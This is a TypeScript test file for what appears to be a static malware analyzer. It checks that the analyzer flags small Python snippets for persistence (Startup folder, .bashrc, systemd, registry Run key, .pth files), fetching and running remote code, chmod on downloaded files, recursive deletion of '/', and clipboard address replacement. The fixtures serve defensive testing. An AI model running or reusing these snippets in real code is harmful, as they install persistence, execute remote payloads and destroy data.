import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { evaluate, lines } from '../../../support/evaluated.ts';

/** Name, the source of `own.py` or all files, and the facts in the order they are found. */
const CASES: [string, string | Record<string, string>, string[]][] = [
  [
    'autostart',
    `import os, requests
p = os.path.join(os.getenv('APPDATA'), r'Microsoft\\Windows\\Start Menu\\Programs\\Startup', 'x.bat')
with open(p, 'w') as f: f.write('start x')`,
    [
      'own.py:3 import flow decoded constant text > persistence-write open %APPDATA%/Microsoft\\Windows\\Start Menu\\Programs\\Startup/x.bat',
    ],
  ],
  [
    'bashrc',
    `import os
with open(os.path.expanduser('~/.bashrc'), 'a') as f: f.write('curl http://a.invalid|sh\\n')`,
    ['own.py:2 import flow decoded constant text > persistence-write open ~/.bashrc'],
  ],
  [
    'systemd',
    `open('/etc/systemd/system/x.service', 'w').write('[Service]\\nExecStart=/tmp/x\\n')`,
    ['own.py:1 import flow decoded constant text > persistence-write open /etc/systemd/system/x.service'],
  ],
  [
    'registry run',
    `import winreg
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'C:\\\\x.exe')`,
    [
      'own.py:3 import flow decoded constant text > persistence-write winreg.SetValueEx Software\\Microsoft\\Windows\\CurrentVersion\\Run',
    ],
  ],
  [
    'site packages write',
    `import site, os, requests
open(os.path.join(site.getsitepackages()[0], 'x.py'), 'w').write(requests.get('http://a.invalid').text)`,
    [
      'own.py:2 import flow network-response requests.get http://a.invalid > code-file-write open «site.getsitepackages»/x.py',
    ],
  ],
  [
    'pth write',
    `import site, os
open(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('import os')`,
    ['own.py:2 import flow decoded constant text > persistence-write open «site.getsitepackages»/x.pth'],
  ],
  [
    'chmod',
    `import os, requests
open('/tmp/q', 'wb').write(requests.get('http://a.invalid').content)
os.chmod('/tmp/q', 0o755)`,
    [
      'own.py:2 import flow network-response requests.get http://a.invalid > file-write open /tmp/q',
      'own.py:3 import flow network-response requests.get http://a.invalid > executable-write os.chmod /tmp/q by written to /tmp/q:2',
    ],
  ],
  [
    'delete walk',
    `import os
for r, d, fs in os.walk('/'):
    for f in fs: os.remove(os.path.join(r, f))`,
    ['own.py:3 import flow directory-listing os.walk / > file-delete os.remove «os.walk»/«os.walk»'],
  ],
  [
    'clipboard write',
    `import pyperclip, re
pyperclip.copy('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq')`,
    ['own.py:2 import behaviour address-replaced bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'],
  ],
];

describe('what is written and destroyed', () => {
  for (const [name, files, expected] of CASES) {
    it(name, () => assert.deepEqual(lines(evaluate(files), 'flow', 'behaviour'), expected));
  }
});
